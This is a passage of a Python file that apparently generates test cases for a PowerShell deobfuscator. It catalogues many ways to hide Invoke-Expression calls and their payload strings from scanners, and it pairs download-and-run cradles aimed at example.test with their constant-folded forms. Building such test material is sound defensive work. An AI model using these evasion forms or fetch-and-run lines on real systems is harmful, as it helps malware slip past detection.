"""Forms of what runs a text, of where the text is kept until then, and of names that are spelled oddly."""

# ruff: noqa: E501  (a form a line)
from collections.abc import Callable

from form_text import b64, codes, gz, hexed, pieces, q, quoted, stepped

Forms = dict[str, Callable[[str], str]]  # name of a form -> from a payload to the text that hides it
UTF8 = "[Text.Encoding]::UTF8.GetString"
FROM64 = "[Convert]::FromBase64String"


def _given(templates: dict[str, str]) -> Forms:
    """Return forms in which TEXT is a sum of two strings."""

    def form(template: str) -> Callable[[str], str]:
        return lambda p: template.replace("TEXT", f"({quoted(p, 2, '+')})")

    return {name: form(template) for name, template in templates.items()}


def _stored(templates: dict[str, str]) -> Forms:
    """Return forms in which ONE, TWO and THREE are literals that spell the payload."""

    def form(template: str) -> Callable[[str], str]:
        def text(p: str) -> str:
            one, two, three = map(q, pieces(p, 3))
            return (
                template.replace("ONE", one).replace("TWO", two).replace("THREE", three).replace("ALL", q(p))
            )

        return text

    return {name: form(template) for name, template in templates.items()}


RUN = _given({
    "iex": "iex TEXT",
    "iex, no blank": "iex(TEXT)",
    "Invoke-Expression": "Invoke-Expression TEXT",
    "letter case": "iNVOkE-exPRESsioN TEXT",
    "-Command": "Invoke-Expression -Command TEXT",
    "-c": "iex -c TEXT",
    "-Command:": "iex -Command:TEXT",
    "piped": "TEXT|iex",
    "piped, Out-String": "TEXT | Out-String | Invoke-Expression",
    "piped, echo": "echo TEXT|iex",
    "piped, Write-Output": "Write-Output TEXT | IEX",
    "within Write-Output": "iex (Write-Output TEXT)",
    "in brackets": "(iex TEXT)",
    "out to nothing": "iex TEXT | Out-Null",
    "[void]": "[void](iex TEXT)",
    "$null=": "$null = iex TEXT",
    "in a variable": "$x=TEXT;iex $x",
    "in a variable, expanded": '$x=TEXT;iex "$x"',
    "in $(...)": "iex $(TEXT)",
    "in @(...)": "iex @(TEXT)",
    "back-ticks": "i`Ex TEXT",
    "back-ticks, long": "I`Nv`oKe-eX`p`RESsion TEXT",
    "back-tick line end": "iex `\n  TEXT",
    "& string": "& 'iex' TEXT",
    ". string": ". \"iex\" TEXT",
    "& sum": "&('i'+'ex') TEXT",
    "& sum, piped": "TEXT|&('ie'+'x')",
    ". format": ".(\"{1}{0}\"-f'x','ie') TEXT",
    "& format, long": "&('{2}{0}{1}'-f'Exp','ression','Invoke-') TEXT",
    "& join": "&('i','e','x'-join'') TEXT",
    "& replace": "&('iqx'.Replace('q','e')) TEXT",
    "& reversed": "&(-join 'xei'[2..0]) TEXT",
    "& characters": "&([char]105+[char]101+[char]120) TEXT",
    "& variable": "$c='ie'+'x';&$c TEXT",
    "& two variables": "$a='ie';$b='x';&($a+$b) TEXT",
    "& expanded": "$a='ie';&\"${a}x\" TEXT",
    "$ShellId": "&($ShellId[1]+$ShellId[13]+'x') TEXT",
    "$ShellId, piped": "TEXT|.( $sHelLId[1]+$SHeLliD[13]+'X')",
    "$PSHome": "&($PSHome[4]+$pshome[34]+'x') TEXT",
    "$PSHome, 21 and 30": "TEXT|&($PSHome[21]+$PSHOME[30]+'x')",
    "$env:ComSpec": "&($env:ComSpec[4,24,25]-Join'') TEXT",
    "$env:ComSpec, 26": "TEXT|.($Env:cOmSPEc[4,26,25]-jOIn'')",
    "$env:Public": "&($env:Public[13]+$env:Public[5]+'x') TEXT",
    "$VerbosePreference": "&(([String]$VerbosePreference)[1,3]+'x'-Join'') TEXT",
    "$VerbosePreference.ToString()": "TEXT|&($VerbosePreference.ToString()[1,3]+'X'-join'')",
    "*mdr*": "&((Get-Variable '*mdr*').Name[3,11,2]-Join'') TEXT",
    "*mdr*, gv": "TEXT|&((gv *MDR*).naMe[3,11,2]-jOIN'')",
    "Get-Command": "&(Get-Command iex) TEXT",
    "Get-Command, wildcard": "&(gcm i*e-ex*n) TEXT",
    "Get-Command in a variable": "$c=Get-Command ('Invoke-'+'Expression');&$c TEXT",
    "Get-Alias, wildcard": "&(gal ie[x]) TEXT",
    "Get-Alias": ".(Get-Alias i?x) TEXT",
    "module-qualified": "Microsoft.PowerShell.Utility\\Invoke-Expression TEXT",
    "module-qualified, &": "&'Microsoft.PowerShell.Utility\\Invoke-Expression' TEXT",
    "module-qualified, piped": "TEXT|Microsoft.PowerShell.Utility\\invoke-expression",
    "alias": "Set-Alias zz iex;zz TEXT",
    "alias, named": "Set-Alias -Name zz -Value Invoke-Expression\nzz TEXT",
    "alias, value first": "Set-Alias -Value 'Invoke-Expression' -Name 'zz' -Scope Global;zz TEXT",
    "sal": "sal zz ('i'+'ex');zz TEXT",
    "New-Alias": "New-Alias zz Invoke-Expression -Force;TEXT|zz",
    "nal": "nal -n zz -va iex;zz(TEXT)",
    "alias of an alias": "sal yy iex;sal zz yy;zz TEXT",
    "alias: drive": "Set-Item alias:zz iex;zz TEXT",
    "$alias: variable": "$alias:zz='iex';zz TEXT",
    "% {iex $_}": "TEXT|%{iex $_}",
    "% {$_|iex}": "TEXT|%{$_|iex}",
    "% {&('i'+'ex') $_}": "@(TEXT)|%{&('i'+'ex')$_}",
    "ForEach-Object -Process": "TEXT | ForEach-Object -Process { Invoke-Expression $_ }",
    "ForEach-Object, $PSItem": "TEXT|foreach{iex -Command $PSItem}",
    "foreach": "foreach($c in TEXT){iex $c}",
    ".ForEach()": "@(TEXT).ForEach({iex $_})",
    "Where-Object": "TEXT|?{$_ -ne ''}|iex",
    "& {iex $args[0]}": "&{iex $args[0]} TEXT",
    "& {param}": "&{param($t)iex $t} TEXT",
    "& {process}": "TEXT|&{process{iex $_}}",
    "& {$input}": "TEXT|&{iex $input}",
    ".Invoke()": "{iex $args[0]}.Invoke(TEXT)",
    "block in a variable": "$f={param($c)Invoke-Expression $c};&$f TEXT",
    "block in a variable, Invoke": "$f={param([string]$c)iex $c};$f.Invoke(TEXT)",
    "function": "function Go{iex $args[0]};Go TEXT",
    "function, parameter": "function Go($c){iex $c};Go TEXT",
    "function, param": "function Go{param([string]$c)Invoke-Expression $c}\nGo -c TEXT",
    "function, Parameter()": (
        "function Go{[CmdletBinding()]param([Parameter(Mandatory=$true,Position=0)][string]$Text)"
        "\nInvoke-Expression $Text}\nGo TEXT"
    ),
    "function, pipeline": "function Go{process{iex $_}};TEXT|Go",
    "function, by pipeline": "function Go{param([Parameter(ValueFromPipeline)]$t)process{iex $t}}\nTEXT|Go",
    "function of a function": "function A($t){iex $t};function B($t){A $t};B TEXT",
    "function in a scope": "function global:Go($c){iex $c};Go TEXT",
    "filter": "filter Go{iex $_};TEXT|Go",
    "function: drive": "$function:Go={iex $args[0]};Go TEXT",
    "[scriptblock]::Create, &": "&([scriptblock]::Create(TEXT))",
    "[scriptblock]::Create, .": ".([ScriptBlock]::Create(TEXT))",
    "[scriptblock]::Create, Invoke": "[ScriptBlock]::Create(TEXT).Invoke()",
    "[scriptblock]::Create, InvokeReturnAsIs": "[scriptblock]::Create(TEXT).InvokeReturnAsIs()",
    "[scriptblock]::Create, variable": "$b=[System.Management.Automation.ScriptBlock]::Create(TEXT);& $b",
    "[scriptblock]::Create, member": "[scriptblock]::('Cre'+'ate')(TEXT).('Inv'+'oke')()",
    "[scriptblock] of a type": "([type]'ScriptBlock')::Create(TEXT).Invoke()",
    "Invoke-Command": "Invoke-Command -ScriptBlock ([scriptblock]::Create(TEXT))",
    "icm": "icm ([ScriptBlock]::Create(TEXT))",
    "Invoke-Command -ArgumentList": "Invoke-Command {iex $args[0]} -ArgumentList TEXT",
    "Start-Job": "Start-Job -ScriptBlock ([scriptblock]::Create(TEXT)) | Wait-Job | Receive-Job",
    "New-Module": "New-Module -ScriptBlock ([scriptblock]::Create(TEXT)) | Import-Module",
    "InvokeScript": "$ExecutionContext.InvokeCommand.InvokeScript(TEXT)",
    "InvokeScript, quoted": "$ExecutionContext.\"InvokeCommand\".'InvokeScript'(TEXT)",
    "InvokeScript, sums": "$ExecutionContext.('Invoke'+'Command').('Invoke'+'Script')(TEXT)",
    "InvokeScript, Invoke": "$ExecutionContext.InvokeCommand.InvokeScript.Invoke(TEXT)",
    "InvokeScript, %": "$ExecutionContext|%{$_.InvokeCommand.InvokeScript(TEXT)}",
    "InvokeScript, variable": "(Get-Variable ExecutionContext -ValueOnly).InvokeCommand.InvokeScript(TEXT)",
    "NewScriptBlock": "&($ExecutionContext.InvokeCommand.NewScriptBlock(TEXT))",
    "NewScriptBlock, Invoke": "$ExecutionContext.InvokeCommand.NewScriptBlock(TEXT).Invoke()",
    "[powershell]::Create": "[PowerShell]::Create().AddScript(TEXT).Invoke()",
    "[powershell]::Create, steps": "$p=[powershell]::Create();[void]$p.AddScript(TEXT);$p.Invoke()",
    "runspace": "$r=[RunspaceFactory]::CreateRunspace();$r.Open();$r.CreatePipeline(TEXT).Invoke()",
    "in if": "if($true){iex TEXT}",
    "in if, compared": "if(2 -gt 1){iex TEXT}else{Get-Date}",
    "in else": "if($false){Get-Date}else{iex TEXT}",
    "in if, unknown": "if((Get-Date).Year -gt 2000){iex TEXT}",
    "in try": "try{iex TEXT}catch{$_|Out-Null}",
    "in catch": "try{throw 1}catch{iex TEXT}",
    "in finally": "try{Get-Date}finally{iex TEXT}",
    "in while": "while($true){iex TEXT;break}",
    "in do": "do{iex TEXT}while($false)",
    "in for": "for(;;){iex TEXT;break}",
    "in a loop of one": "1|%{iex TEXT}",
    "in switch": "switch(1){1{iex TEXT}}",
    "in switch, default": "switch('a'){'b'{Get-Date}default{iex TEXT}}",
    "in a trap": "trap{iex TEXT;continue};throw 'x'",
    "in begin": "function Go{begin{iex TEXT}};Go",
    "in expandable text": 'Write-Output "$(iex TEXT)"',
    "in a hashtable": "$h=@{a=iex TEXT}",
    "in a list": "@(1,(iex TEXT))",
})  # fmt: skip

VARIABLES = _stored({
    "several": "$a=ONE;$b=TWO;$c=THREE;iex ($a+$b+$c)",
    "at once": "$a,$b,$c=ONE,TWO,THREE;iex ($a+$b+$c)",
    "at once, of a list": "$l=@(ONE,TWO,THREE);$a,$b,$c=$l;iex \"$a$b$c\"",
    "at once, a rest": "$a,$r=ONE,TWO,THREE;iex ($a+(-join $r))",
    "chained": "$a=$b=ALL;iex $b",
    "swapped": "$a,$b=TWO,ONE;$a,$b=$b,$a;iex ($a+$b+THREE)",
    "in brackets": "($a=ONE)|Out-Null;$b=($c=TWO)+THREE;iex ($a+$b)",
    "given again": "$a='Get-Date';$a=ONE;$a=$a+TWO+THREE;iex $a",
    "scopes": "$global:a=ONE;$script:b=TWO;$local:c=THREE;iex ($a+$b+$c)",
    "scope read": "$a=ALL;iex $global:a",
    "braces": "${a b}=ONE;${#;}=TWO;${c}=THREE;iex (${a b}+${#;}+${C})",
    "back-ticks": "${z`C}=ONE;${Zc}+=TWO;iex (${zc}+THREE)",
    "typed": "[string]$a=ONE;[String] $b = TWO;[string]$c=THREE;iex ($a+$b+$c)",
    "Set-Variable": "Set-Variable a ONE;Set-Variable -Name b -Value (TWO+THREE);iex ($a+$b)",
    "Set-Variable, value first": "Set-Variable -Value ALL -Name ('a'+'b');iex $ab",
    "sv, nv": "sv a ONE;nv b TWO;New-Variable -Name c -Value THREE -Force;iex ($a+$b+$c)",
    "Set-Variable, piped": "(ONE+TWO+THREE)|Set-Variable a;iex $a",
    "-OutVariable": "Write-Output ALL -OutVariable a|Out-Null;iex \"$a\"",
    "Get-Variable -ValueOnly": "$a=ALL;iex (Get-Variable a -ValueOnly)",
    "Get-Variable -Value": "$a=ALL;iex (Get-Variable -Name a -Value)",
    "Get-Variable .Value": "$a=ALL;iex (Get-Variable a).Value",
    "Get-Variable .Value, quoted": "$a=ALL;iex (Get-Variable 'a').'Value'",
    "Get-Variable, name put together": "$ab=ALL;iex (gv ('a'+'b') -va)",
    "Get-Variable, wildcard": "$zzq=ALL;iex (gv zz*).Value",
    "Get-Variable, %": "$a=ALL;gv a|%{iex $_.Value}",
    "Get-Item Variable:": "$a=ALL;iex (Get-Item Variable:a).Value",
    "Get-Item Variable:, slash": "$a=ALL;iex (gi Variable:/a).Value",
    "Get-ChildItem Variable:": "$a=ALL;iex (Get-ChildItem Variable:a).Value",
    "gci, dir, ls": "$a=ONE;$b=TWO;$c=THREE;iex ((gci variable:a).value+(dir variable:/b).value+(ls Variable:\\c).Value)",
    "Get-Content Variable:": "$a=ALL;iex (Get-Content Variable:a)",
    "gc, cat": "$a=ONE+TWO;$b=THREE;iex ((gc variable:a)+(cat variable:b))",
    "Set-Item Variable:": "Set-Item Variable:a ALL;iex $a",
    "Set-Item Variable:, si": "si Variable:/a (ONE+TWO);si variable:b -Value THREE;iex ($a+$b)",
    "New-Item Variable:": "New-Item -Path Variable:a -Value ALL|Out-Null;iex $a",
    "Set-Content Variable:": "Set-Content Variable:a ALL;iex $a",
    "${variable:a}": "${variable:a}=ALL;iex $variable:a",
    "$ExecutionContext, Get": "$a=ALL;iex $ExecutionContext.SessionState.PSVariable.Get('a').Value",
    "$ExecutionContext, GetValue": "$a=ALL;iex $ExecutionContext.SessionState.PSVariable.GetValue('a')",
    "$ExecutionContext, Set": "$ExecutionContext.SessionState.PSVariable.Set('a',ALL);iex $a",
    "$env:": "$env:zz=ALL;iex $env:zz",
    "$env:, two": "$env:zz=ONE+TWO;${env:yy}=THREE;iex ($env:zz+$env:yy)",
    "Set-Item Env:": "Set-Item Env:zz ALL;iex (Get-Item Env:zz).Value",
    "Env:, gci": "si env:/zz ALL;iex (gci env:zz).Value",
    "[Environment]": (
        "[Environment]::SetEnvironmentVariable('zz',ALL,'Process');iex ([Environment]::GetEnvironmentVariable('zz'))"
    ),
    "[Environment], $env:": "[Environment]::SetEnvironmentVariable('zz',ALL);iex $env:zz",
    "type in a variable": "Set-Variable t ([type]('Str'+'ing'));iex (Get-Variable t -Value)::Join('',(ONE,TWO,THREE))",
    "type in Variable:": "SeT-iTEM vARiABle:T1 ([tyPE](\"{1}{0}\"-f 'ng','Stri'));iex $t1::\"joIn\"('',@(ONE,TWO,THREE))",
})  # fmt: skip

VALUES = _stored({
    "hashtable": "$h=@{a=ONE;b=TWO;c=THREE};iex ($h.a+$h.b+$h.c)",
    "hashtable, indices": "$h=@{'a'=ONE;\"b\"=TWO;c=THREE};iex ($h['a']+$h[\"b\"]+$h['c'])",
    "hashtable, lines": "$h = @{\n  a = ONE\n  b = TWO\n  c = THREE\n}\niex ($h.a + $h.b + $h.c)",
    "hashtable, numbers": "$h=@{1=THREE;2=ONE;3=TWO};iex ($h[2]+$h[3]+$h[1])",
    "hashtable, numbers in a loop": "$h=@{0=ONE;1=TWO;2=THREE};$o='';0..2|%{$o+=$h[$_]};iex $o",
    "hashtable, added": "$h=@{};$h.a=ONE;$h['b']=TWO;$h.Add('c',THREE);iex ($h.a+$h.b+$h.c)",
    "hashtable, ordered": "$h=[ordered]@{a=ONE;b=TWO;c=THREE};iex (-join $h.Values)",
    "hashtable, ordered keys": "$h=[ordered]@{z=ONE;y=TWO;x=THREE};$o='';foreach($k in $h.Keys){$o+=$h[$k]};iex $o",
    "hashtable, sorted": "$h=@{b=TWO;a=ONE;c=THREE};iex (-join ($h.Keys|sort|%{$h[$_]}))",
    "hashtable, within": "$h=@{a=@{b=ONE};c=@(TWO,THREE)};iex ($h.a.b+$h.c[0]+$h.c[1])",
    "hashtable, Item": "$h=@{a=ALL};iex $h.Item('a')",
    "hashtable, New-Object": "$h=New-Object Collections.Hashtable;$h.Add('a',ONE+TWO);$h['b']=THREE;iex ($h['a']+$h.b)",
    "[pscustomobject]": "$o=[pscustomobject]@{A=ONE;B=TWO+THREE};iex ($o.A+$o.B)",
    "New-Object psobject": "$o=New-Object PSObject -Property @{A=ALL};iex $o.A",
    "Add-Member": "$o=New-Object psobject;$o|Add-Member NoteProperty T ALL;iex $o.T",
    "list": "$l=ONE,TWO,THREE;iex ($l[0]+$l[1]+$l[2])",
    "list, order": "$l=TWO,THREE,ONE;iex (-join $l[2,0,1])",
    "list, negative": "$l=@(THREE,TWO,ONE);iex ($l[-1]+$l[-2]+$l[-3])",
    "list, appended": "$l=@();$l+=ONE;$l+=TWO;$l+=THREE;iex (-join $l)",
    "list, set": "$l='','','';$l[2]=THREE;$l[0]=ONE;$l[1]=TWO;iex ($l -join '')",
    "list of lists": "$l=@(@(ONE,TWO),@(THREE));iex ($l[0][0]+$l[0][1]+$l[1])",
    "list, new": "$l=New-Object string[] 3;$l[0]=ONE;$l[1]=TWO;$l[2]=THREE;iex (-join $l)",
    "queue": "$l=New-Object Collections.Queue;$l.Enqueue(ONE);$l.Enqueue(TWO+THREE);iex ($l.Dequeue()+$l.Dequeue())",
    "function without parameters": "function a{ONE};function b{TWO+THREE};iex ((a)+(b))",
    "function, return": "function a{return ALL};iex (a)",
    "function, two parameters": "function Add-Text($x,$y){return $x+$y};iex (Add-Text (Add-Text ONE TWO) THREE)",
    "function, named": "function Add-Text{param($x,$y)$x+$y};iex (Add-Text -y (TWO+THREE) -x ONE)",
    "function, default": "function a($x=ALL){$x};iex (a)",
    "function, default and given": "function a($x,$y=THREE){$x+$y};iex (a (ONE+TWO))",
    "function, splatted": "function a($x,$y){$x+$y};$p=@{x=ONE;y=TWO+THREE};iex (a @p)",
    "function, splatted list": "function a($x,$y){$x+$y};$p=ONE,(TWO+THREE);iex (a @p)",
    "function, switch": "function a($x,[switch]$r){if($r){$x}else{'Get-Date'}};iex (a ALL -r)",
    "function, $args": "function a{-join $args};iex (a ONE TWO THREE)",
    "function, pipeline": "function a{process{$_}};iex (-join (ONE,TWO,THREE|a))",
    "function, $input": "function a{-join $input};iex (ONE,TWO,THREE|a)",
    "function, recursive": (
        "function a($n){if($n -eq 0){return ''};return (a ($n-1))+(ONE,TWO,THREE)[$n-1]};iex (a 3)"
    ),
    "function, defined within": "function a{function b{ALL};b};iex (a)",
    "function, sets a variable": "function a{$script:t=ALL};a;iex $t",
    "block": "$f={ALL};iex (&$f)",
    "block, parameter": "$f={param($x)$x+TWO+THREE};iex (&$f ONE)",
    "block, .Invoke": "$f={ONE+$args[0]+THREE};iex ($f.Invoke(TWO))",
    "function's own variable": "$a=ALL;function f{$a='Get-Date'};f;iex $a",
    "block's own variable": "$a=ALL;&{$a='Get-Date'};iex $a",
    "block in the same scope": "$a='Get-Date';.{$a=ALL};iex $a",
    "class": "class T{static [string]A([string]$x){return $x+THREE}}\niex ([T]::A(ONE+TWO))",
    "if as value": "$x=if(1 -lt 2){ALL}else{'Get-Date'};iex $x",
    "switch as value": "$x=switch(2){1{'Get-Date'}2{ALL}};iex $x",
    "switch in a loop": (
        "$s=3;$o='';while($s){switch($s){3{$o+=ONE;$s=1}1{$o+=TWO;$s=2}2{$o+=THREE;$s=0}}};iex $o"
    ),
    "ternary": "$x=$true ? ALL : 'Get-Date';iex $x",
    "null-coalescing": "$x=$null ?? ALL;iex $x",
    "known condition": "$n=5;$x='Get-Date';if($n*2 -eq 10){$x=ALL};iex $x",
    "both ways alike": "if($env:zz){$x=ALL}else{$x=ALL};iex $x",
    "counted loop": "$o='';for($i=0;$i -lt 3;$i++){if($i -eq 0){$o+=ONE}elseif($i -eq 1){$o+=TWO}else{$o+=THREE}};iex $o",
    "loop over a list": "$o='';foreach($x in ONE,TWO,THREE){$o+=$x};iex $o",
    "loop, list of lists": "$o='';foreach($x in @((1,ONE),(2,TWO),(3,THREE))){$o+=$x[1]};iex $o",
    "loop, left early": "foreach($x in 'Get-Date',ALL,'Get-Date'){if($x.Length -gt 8){break}};iex $x",
    "pipeline gathers": "$o='';ONE,TWO,THREE|%{$o+=$_};iex $o",
    "pipeline, begin and end": "iex (ONE,TWO,THREE|%{$o=''}{$o+=$_}{$o})",
    "sorted by number": "iex (-join ((3,THREE),(1,ONE),(2,TWO)|sort{$_[0]}|%{$_[1]}))",
    "selected": "iex ('Get-Date',ALL|select -Last 1)",
    "filtered": "iex (-join (ONE,'#',TWO,'#',THREE|?{$_ -ne '#'}))",
    "of a length": "$n='abcd'.Length;$x='junk'+ALL;iex $x.Substring($n)",
    "[string] of a number": "iex ('$n='+[string]1+';'+ALL).Substring(5)",
    "brackets": "iex ((((ONE)+(TWO))+((THREE))))",
    "Out-String": "iex (ONE+TWO+THREE|Out-String)",
    "Tee-Object": "ALL|Tee-Object -Variable t|Out-Null;iex $t",
    "[ref]": "$a='Get-Date';$r=[ref]$a;$r.Value=ALL;iex $a",
    "ExpandString": "$a=ALL;iex $ExecutionContext.InvokeCommand.ExpandString('$a')",
    "ConvertFrom-StringData": "$h=ConvertFrom-StringData \"a=Get-Date`nb=Get-Item\";$h.b=ALL;iex $h.b",
    "name and text": "$n,$t='iex',ALL;&$n $t",
    "clean code around": "$d=Get-Date\n$x=ONE\nGet-ChildItem $env:TEMP|Out-Null\n$x+=TWO+THREE\niex $x\nGet-Date",
    "comment signs within": "$x='#';iex ($x+ALL).TrimStart('#')",
})  # fmt: skip

IN_PLACE = {  # name of a form -> (text, the text with its constants in place); something in it may run a string
    "command": ("&('Wri'+'te-Output') inert", "&'Write-Output' inert"),
    "command, -f": ("&(\"{1}{0}\"-f'rite-Output','W') inert", "&'Write-Output' inert"),
    "command, .": (".('Get'+'-Da'+'te') -Format s", ".'Get-Date' -Format s"),
    "command, back-ticks": ("iex $u; G`et-It`Em C:\\Temp", "iex $u; Get-ItEm C:\\Temp"),
    "command, piped": ("Get-Date|&('Out-'+'Null')", "Get-Date|&'Out-Null'"),
    "argument": ("iex $u; Get-Item ('C:\\'+'Temp') -Force", "iex $u; Get-Item 'C:\\Temp' -Force"),
    "argument, -f": ("iex $u;Get-Item (\"{1}{0}\" -f 'mp','C:\\Te')", "iex $u;Get-Item 'C:\\Temp'"),
    "argument, -join": ("iex $u;Get-Item (-join ('C:\\','Te','mp'))", "iex $u;Get-Item 'C:\\Temp'"),
    "argument, -replace": ("iex $u;Get-Item ('C:\\T#mp' -replace '#','e')", "iex $u;Get-Item 'C:\\Temp'"),
    "argument, [char]": ("iex $u;Get-Item ('C'+[char]58+'\\Temp')", "iex $u;Get-Item 'C:\\Temp'"),
    "argument, expanded": ("iex $u;$d='C:';Get-Item \"$d\\Temp\"", "iex $u;$d='C:';Get-Item 'C:\\Temp'"),
    "argument, Base64": (
        f"iex $u;Get-Item ({UTF8}({FROM64}('QzpcVGVtcA==')))", "iex $u;Get-Item 'C:\\Temp'",
    ),
    "argument within unknown": ("iex ($u+('C:\\'+'Temp')+$v)", "iex ($u+'C:\\Temp'+$v)"),
    "type": ("iex $u;$t=[type]('Sys'+'tem.Math')", "iex $u;$t=[type]'System.Math'"),
    "member": ("iex $u;[Math]::('A'+'bs')(-1)", "iex $u;[Math]::'Abs'(-1)"),
    "name of a class": ("&('New-Ob'+'ject') ('Net.'+'WebClient')", "&'New-Object' 'Net.WebClient'"),
    "address": (
        "iex (New-Object Net.WebClient).DownloadString('ht'+'tp://exa'+'mple.test/a')",
        "iex (New-Object Net.WebClient).DownloadString('http://example.test/a')",
    ),
    "address, reversed": (
        "irm (-join 'a/tset.elpmaxe//:ptth'[-1..-21])|iex", "irm 'http://example.test/a'|iex",
    ),
}  # fmt: skip

BACK_TICKS: Forms = {  # for payloads of one line without quotes and dollars
    "name": lambda p: f"I`NV`O`KE-`EX`PRES`SION {q(p)}",
    "name, `e of 5.1": lambda p: f"invo`k`e-`exp`Ression {q(p)}",
    "short name, `e of 5.1": lambda p: f"i`ex {q(p)}",
    "member, `e of 5.1": lambda p: f"iex ({q(p.replace('t', '#'))}.\"R`epLac`e\"('#','t'))",
    "member, `E": lambda p: f"iex {q(p.replace('t', '#'))}.\"r`Epla`C`E\"('#','t')",
    "member of a type": lambda p: f"iex ({UTF8}([Convert]::\"Fr`omBase64S`TRin`g\"('{b64(p, 'utf-8')}')))",
    "member of a type, `e of 5.1": lambda p: f"iex ({UTF8}([Convert]::\"FromBas`e64String\"('{b64(p, 'utf-8')}')))",
    "called text": lambda p: f'&"I`Ex" {q(p)}',
    "called text, `e of 5.1": lambda p: f'&"i`ex" {q(p)}',
    "variable": lambda p: f"${{te`X`T}}={q(p)};iex ${{teXT}}",
    "cmdlet, type and member": lambda p: (
        "I`EX ((Ne`w-O`BJECT IO.StreamR`Eader((ne`W-oBJ`ECT IO.Memor`yStream(,"
        f"{FROM64}('{b64(p, 'utf-8')}'))))).\"R`EadToE`ND\"())"
    ),
    "line ends": lambda p: f"iex `\n( `\n{quoted(p, 3, ' + `' + chr(10))} `\n)",
    "expandable text": lambda p: 'iex "' + "".join("`" + c if c in "cCdDgGhHikKlmMopqsSwWxyz-." else c for c in p) + '"',
    "expandable text, `e of 5.1": lambda p: 'iex "' + p.replace("e", "`e") + '"',
    "expandable text, line end": lambda p: 'iex "' + p + '`r`n"',
    "`u{} of 7": lambda p: 'iex "' + codes(p, "`u{{{:x}}}", "") + '"',
    "`u{} of 7, six digits": lambda p: 'iex "' + codes(p, "`u{{{:06X}}}", "") + '"',
    "`u{} of 7, one letter": lambda p: 'iex "' + p.replace("t", "`u{74}") + '"',
}  # fmt: skip

METHOD_GROUPS: Forms = {
    "Replace.Invoke": lambda p: f"iex {q(p.replace('t', '#'))}.Replace.Invoke('#','t')",
    "('Rep'+'lace').Invoke": lambda p: f"iex ({q(p.replace('t', '#'))}.('Rep'+'lace').Invoke('#','t'))",
    "('Rep'+'lace')()": lambda p: f"iex ({q(p.replace('t', '#'))}.('Rep'+'lace')('#','t'))",
    "name in a variable": lambda p: f"$m='Replace';iex ({q(p.replace('t', '#'))}.$m('#','t'))",
    "name in a variable, Invoke": lambda p: f"$m='Rep'+'lace';iex ({q(p.replace('t', '#'))}.$m.Invoke('#','t'))",
    "group in a variable": lambda p: f"$m={q(p.replace('t', '#'))}.Replace;iex $m.Invoke('#','t')",
    "format as a name": lambda p: f"iex {q(p.replace('t', '#'))}.(\"{{1}}{{0}}\"-f'lace','Rep').Invoke('#','t')",
    "PSObject.Methods": lambda p: f"iex {q(p.replace('t', '#'))}.PSObject.Methods['Replace'].Invoke('#','t')",
    "static group": lambda p: f"$m=[Convert]::FromBase64String;iex ({UTF8}($m.Invoke('{b64(p, 'utf-8')}')))",
    "static, Invoke": lambda p: f"iex ([Text.Encoding]::UTF8.GetString.Invoke([Convert]::FromBase64String.Invoke('{b64(p, 'utf-8')}')))",
    "static, sums": lambda p: f"iex ([Text.Encoding]::('UT'+'F8').('Get'+'String')([Convert]::('From'+'Base64String')('{b64(p, 'utf-8')}')))",
    "static Join": lambda p: f"iex ([string]::Join.Invoke('',({quoted(p, 5)})))",
    "Substring.Invoke": lambda p: f"$x={q('junk' + p)};iex $x.('Sub'+'string').Invoke(4)",
    "ToCharArray and Reverse": lambda p: f"$c={q(p[::-1])}.('ToChar'+'Array').Invoke();[array]::('Rev'+'erse').Invoke($c);iex (-join $c)",
    "% Replace": lambda p: f"iex ({q(p.replace('t', '#'))}|% Replace '#' 't')",
    "% -MemberName": lambda p: f"iex ({q('junk' + p)}|ForEach-Object -MemberName Substring -ArgumentList 4)",
    "% ToCharArray": lambda p: f"iex (-join ({q(p)}|% ToCharArray))",
    "% ToString": lambda p: f"iex (-join ({quoted(p, 4)}|% T*ring))",
    ".ForEach('Trim')": lambda p: f"iex (-join @({','.join(q('#' + x) for x in pieces(p, 4))}).ForEach('TrimStart','#'))",
    "members of a list": lambda p: f"iex (-join ({','.join(q('#' + x) for x in pieces(p, 4))}).TrimStart('#'))",
    "GetMethod": lambda p: f"iex ([string].GetMethod('Insert').Invoke({q(p[3:])},@(0,{q(p[:3])})))",
    "[type]::GetType": lambda p: f"iex ([type]::GetType('System.String')::Concat({quoted(p, 3)}))",
}  # fmt: skip

TOKENS: Forms = {
    "comments": lambda p: f"iex <#a#>(<#b#>{quoted(p, 3, '<#c ' + chr(39) + ' #>+<##>')}<#d#>)<#e#>",
    "comments, lines": lambda p: f"# it's\niex ( # (\n{quoted(p, 3, ' + # x' + chr(10))} # )\n) # end",
    "white space": lambda p: f"   iex   (  {quoted(p, 4, chr(9) + '+' + '   ')}    )   ",
    "white space, members": lambda p: f"iex ( [ Text.Encoding ]::UTF8.GetString( [ Convert ]::FromBase64String( '{b64(p, 'utf-8')}' ) ) )",
    "type": lambda p: f"$t=[tYPe](\"{{1}}{{0}}\"-f'vErT','Con');iex ({UTF8}($t::FromBase64String('{b64(p, 'utf-8')}')))",
    "type, namespace": lambda p: f"iex ([SYSTEM.text.ENCODING]::utf8.getstring([sYsTeM.cOnVeRt]::fRoMbAsE64sTrInG('{b64(p, 'utf-8')}')))",
    "type, -as": lambda p: f"iex ({UTF8}((('System.'+'Convert') -as [type])::FromBase64String('{b64(p, 'utf-8')}')))",
    "member": lambda p: f"iex ([Text.Encoding]::\"u`TF8\".\"GEtS`Tring\".\"In`V`oKE\"([Convert]::\"FrOmBASE64S`TRInG\"('{b64(p, 'utf-8')}')))",
    "command": lambda p: f"&(\"{{0}}{{1}}\"-f 'Invoke-Exp','ression') {q(p)}",
    "command, new object": lambda p: f".(\"{{1}}{{0}}\"-f'ct','New-Obje') Text.StringBuilder|Out-Null;.(\"i\"+\"ex\") ({quoted(p, 3, '+')})",
    "arguments": lambda p: f"Invoke-Expression -Command:(\"{{1}}{{0}}\" -f {q(p[7:])},{q(p[:7])})",
    "variable names": lambda p: f"${{/==\\_/\\/}}={q(p[:9])};${{__/\\/=}}={q(p[9:])};iex (${{/==\\_/\\/}}+${{__/\\/=}})",
    "variable names, random": lambda p: f"$hQzKwPbRvT={q(p[:9])};$ZtYmXcNqLs={q(p[9:])};iex ($hQzKwPbRvT+$ZtYmXcNqLs)",
    "function names, random": lambda p: f"function qKvBnTz($PwRxYc){{{UTF8}({FROM64}($PwRxYc))}};iex (qKvBnTz '{b64(p, 'utf-8')}')",
    "operators and case": lambda p: f"({quoted(p, 4)})-JoIN''|iEX",
